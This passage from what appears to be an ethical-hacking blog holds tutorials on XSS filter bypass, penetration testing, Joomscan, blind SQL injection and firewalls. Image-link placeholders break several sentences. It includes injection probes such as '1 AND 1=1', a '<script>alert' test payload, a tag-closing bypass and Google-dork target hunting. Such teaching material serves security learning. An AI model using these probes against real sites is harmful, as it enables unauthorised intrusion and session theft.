thekeywords(namely Obfuscation).
    For eg:

    This bypass technique rarely works but giving trial is worth.

    4. Closing Tag

    Sometimes putting "> at the beginning of the code will work.


    This will end the previous opened tag and open our script tag.

    From above article, it is clear that XSS filters alone not going to protect a site from the XSS attacks. If you really want to make your site more secure, then ask PenTesters to test your application or test yourself.

    Also there are lot of different filter bypassing technique, i just covered some useful techniques for you.

    Continue   Reading>>

    Wednesday, November 23, 2011

    What is Penetration Testing and Pen Testing Distribution?

    Penetration Testing(Pen Testing) is the act of evaluating the Security of system or network by exploiting vulnerabilities. This willdetermine whether unauthorized or malicious activity is possible in a system. Vulnerability uncovered through the Pen Testing will be presented to the system's owner.

    Why Penetration Testing?

    • Pentetration testing can identify the vulnerabilities that is not identified by an automated vulnerability scanners.
    • Determining the feasibility of a particular set of attack vectors
    • Determining the Critical Vulerabilities .
    • Assessing the magnitude of potential business and operational impacts of successful attacks
    • Testing the ability of network defenders to successfully detect andrespond to the attacks
    • Testing stability of the system against the DDOS attack.

    White Box vs Black Box vs Grey Box Testing:
    Penetration testing can be performed in different ways. The methods can be classified into three types based on the knowledge about the System being tested.

    White Box:
    In white box testing, Pen Tester know everything about the system such as source code,network diagrams, ip addressinginfo.

    White box testing simulates what might happen during an "inside job" or after a "leak" of sensitive information, where the attacker(malicious insider) has access to source code, network layouts, and possibly even some passwords.

    Black Box:
    Pen Tester test the system without prior knowledge about the system. This method is also known as Blind Testing . Black box testing simulates an attack from someone who is unfamiliar(malicious outsiders) with the system.

    Grey Box:
    In this method, Pen Tester partially know about the system.

    Web application penetration testing:
    This testing will be used to find the following web application vulnerabilities:

    • SQL Injection
    • XSS(Cross site Scripting)
    • Buffer overflow
    • Clickjacking
    • DDOS
    Penetration Testing Tool:
    Penetration Testing tools are used as part of a penetration test to automate certain tasks, improve testing efficiency, and discover issues that might be difficult to find using manual analysis techniques alone.

    As a Penetration Tester, you will need lot of Penetration testing tools to test the Security of system. Searching ,downloading and installing the required software may take time. You can use a Penetration Testing Distribution instead.

    What is Pen Testing Distribution?
    Penetration Testing Distribution is an open source Operating System(Derived from Linux/BSD) that combines allrequired application for testing the security of system. It is specially developed for Security Professionals(Pen Testers/EthicalHackers/Forensic Officers...)
    Eg: Backtrack 5 Linux .

    What is the advantage of Penetration Testing Distribution?
    All Required application for security test are gathered in a single Operating system. You don't need to search for application, Save your time. Penetration Testing Distribution are open source and free to use. You can install in pen drive and bring it anywhere.

    Continue   Reading>>

    How to use Joomscan to find the Joomla Vulnerability in Backtrack 5 Linux?

    Joomscan is one of penetration testing tool that help to find the vulnerability in Joomla CMS.   The Updated version can detects 550Vulnerabilities. Let me show how to use this joomscan in Backtrack5.

    Download the Joomscan from here:

    Step 1: Moving to PenTest folder
    Copy/Move the downloaded files in directory

    Step2: Set Permission
    Now you have to set permission for the Joomscan file. In order to this, Type the following command in Terminal(if you don't know how to open terminal at all, please stop reading this and start it from basics of Linux).
    CHMOD 0777

    Step 3: Update
    Update the scanner to latest version. To do this, enter the following command in Terminal:
    ./ update

    Step 4: Scanning for Vulnerability
    Now everything ok, we have to scan our joomla site for vulnerability. To do this, enter the following command in Terminal:
    ./ -u

    Wait for a while, and it will list of the vulnerability found.

    This tutorial is completely for Educational purpose only. Thistutorial is for PenTester and Ethical Hackers .
    Continue   Reading>>

    Monday, November 7, 2011

    What is Blind Sql Injection ? Web Application Vulnerability Tutorial

    Blind SQL injection technique is used when the web application is vulnerable but the output doesn’t display to the attacker. When hacker tries SQL injection, they will redirect to some other pages instead of error message. Blind SQL Injection is harder to implement when compared with the above Traditional SQL Injection Technique, it will take more time . There are some tools for Blind SQL Injection.

    Blind SQL injection can be done by querying the database with sequence of true/false questions.

    How to detect the Blind SQL Injection Vulnerability?
    Web application gets the clients input and supplied inwhere clause to retrieve data from Database. For instance, let us say the web application gets id and supplied to the sql query as follows
    Statement=”select * from userinfo where id=` “+id+” ` “;
    Hope you know about where clause and compound conditions (OR, AND). OR and AND are used to combine two conditions. The attacker can find the vulnerability by entering the compound conditions as input.
    For instance, the attacker can enter id value as
    1 AND 1=1
    The above query will become
    Select * from userinfo WHERE id=1 AND 1=1If the page remains on the same page, then the application may be vulnerable. This type of vulnerability occurs when the developer fails to validate the data type of ID. Here we give true condition (1=1). So if use false condition (1=2), it will raise an error message. We can conclude that if the condition is true, it remains in page. If false, showing error message.

    Some Functions to be known
    The following function will be useful for Blind SQL Injection.
    substring(str, pos, length) is the function that returns the part of the String. sub string of the string is depending on the argument given to the function.

    For instance substring(“hello”,2,1) will returns ‘e’.
    Here string is “hello”, character position is 2 (that is ‘e’), and length is 1.• lower(str) is the function that converts the character to lower case
    • ascii(c) is the function that converts the character to ASCII value.
    • length(str) returns the length of the string .
    • user() returns the current user(admin)
    • database() returns the database name.
    • version() retruns the version of database

    Blind Sql Injection Tools:
    When come to Blind Sql Injection vulnerability, it will time consuming process. So Automated tools are better than manual process. Here are list of AutomatedTools

    Meet you at our Next Article with more details about the Blind Sql Injection Attack.

    We are providing this information as a part of our Ethical Hacking Tutorial. This article is created for understanding the Web application Vulnerability. We are not responsible for youillegal activity.

    Stop stealing Our contents . I worked harder to create an article, you simply copying from us?! I asked website owners put our site as source at the end of article. Give respect to our hard work. Otherwise we don't have any other choice than report to Google under DMCA Copyrights.
    Continue   Reading>>

    Friday, October 14, 2011

    Cross Site Scripting(XSS) Complete Tutorial for Beginners~ Web Application Vulnerability

    What is XSS?
    Cross Site Scripting also known as XSS , is one of the most common web appliction vulnerability that allows an attacker to run his own client side scripts(especially Javascript) into web pages viewed by other users.In a typical XSS attack, a hacker inject his malicious javascript code in the legitimate website . When a user visit the specially-crafted link , it will execute the malicious javascript. A successfully exploited XSS vulnerability will allow attackers to do phishing attacks, steal accounts and even worms.
    Example :Let us imagine, a hacker has discovered XSS vulnerability in Gmail and inject malicious script. When a user visit the site, it will execute the malicious script. The malicious code can be used to redirect users to fake gmail page or capture cookies. Using this stolencookies, he can login into your account and change password.
    It will be easy to understand XSS , if you have the following prerequisite:
    •Strong Knowledge in HTML,javascript(Reference).
    • Basic Knowledge in HTTP client-Server Architecure(Reference)
    • [optional]Basic Knowledge about server side programming(php,asp,jsp)

    XSS Attack:
    Step 1: Finding Vulnerable Website
    Hackers use google dork for finding the vulnerable sites for instance  "?search=" or ".php?q=" .  1337 target specific sites instead of using google search.  If you are going to test your own site, you have to check every page in your site for the vulnerability.

    Step 2: Testing the Vulnerability:
    First of all, we have to find a input field so that we can inject our own script, for example: search box, username,password or any other input fields.

    Test 1 :
    Once we found the input field, let us try to put some string inside the field, for instance let me input "BTS". It will display the  result .

    Now right click on the page and select view source.   search for the string "BTS" which we entered in the input field.  Note the location where the inputis placed.

    Test 2:
    Now we are going to check whether the server sanitize our input or not.  In order to do this , let us input the <script> tag inside the input field.
    View the source of the page . Find the location where input displayed place in previous test.

    Thank god, our code is not beingsanitized by the server and the code is just same as what we entered in the field. If the server sanitize our input, the code may look like this <script>. This indicates that the website vulnerable to XSS attack and we can execute our own scripts .

    Step 3: Exploiting the vulnerability
    Now we know the site is somewhat vulnerable to XSS attack.  But let us make sure whether the site is completely vulnerable to this attack by injecting a full javascript code.  For instance, let us input <script>alert('BTS')</script> .

    Now it will display pop-up box with 'BTS' string. Finally, we successfully exploit the XSS .  By extending the code with malicious script, a hacker can do steal cookies or deface the site and more.

    Types of XSS Based on persisting capability:
    Based one Persistence capability, we can categorize the XSS attack into two types namely Persistent and Non-Persistent.

    Persistent XSS:

    The Persistent or Stored XSS attack occurs when the malicious code submitted by attacker is saved by the server in the database, and then permanently it will be run in the normal page.

    For Example:
    Many websites host a support forum where registered users can ask their doubts by posting message  , which are stored in the database.  Let us imagine , An attacker post a message containing malicious javascript code instead.  If the server fail to sanitize the input provided, it results in execution of injected script.  The code will be executed whenever a user try to read the post. If suppose the injected code is cookie stealing code, then it will steal cookie of users who read the post. Using the cookie, attacker can take control of your account.

    Non-Persistent XSS:

    Non-PersistentXSS, also referred as Reflected XSS , is the most common type of XSS found now a days. In this type of attack, the injected code will be send to the server via HTTPrequest.  The server embedd the input with the html file and return the file(HTTPResponse) to browser.  When the browser executes the HTML file, it also execute the embedded script.  This kind of XSS vulnerability frequently occur in search fields.

    Let us consider a project hosting website.  To find our favorite project, we will just input the related-word in the search box .  When searching is finished, it will display a message like this "search results for yourword " .  If the server fail to sanitize the input properly, it will results in execution of injected script.

    In case of reflected XSS attacks, attacker will send the specially-craftedlink to victims and trick them into click the link. When user click the link, the browser will send the injected code to server, the server reflects the attack back to the users' browser.  The browser thenexecutes the code .

    In addition to these types, there is also third  type of attack called DOM Based XSS attack, i will explain about this attack in later posts.

    What can an attacker do with this Vulnerability?
    • Stealing the Identity and Confidential Data(credit card details).
    • Bypassing restriction in websites.
    • Session Hijacking(Stealing session)• Malware Attack
    • Website Defacement
    • Denial of Service attacks(Dos)

    This article is intended for educational purpose only.
    Continue   Reading>>

    Wednesday, October 12, 2011

    Introduction to Web Application Firewall (WAF) ~ Website Security

    What is WAF?WAF is expanded as Web Application Firewall. WAF is server side application that controls the input and output(filter the HTTP communication).  It controls network traffic on any OSI Layer up to Application Layer.  The main purpose of WAF is to provide better protection over the top Wep Application vulnerability such as XSS(Cross Site Scripting), SQL Injection,RFI.  Daily lot of websites hacked because of these vulnerability.  Read Our Security News Section to know about the Security Risks in Interent.  Standard firewall blocks Non-HTTP attacks(restriction of ports,access..).  This WAF blocks HTTP attack.

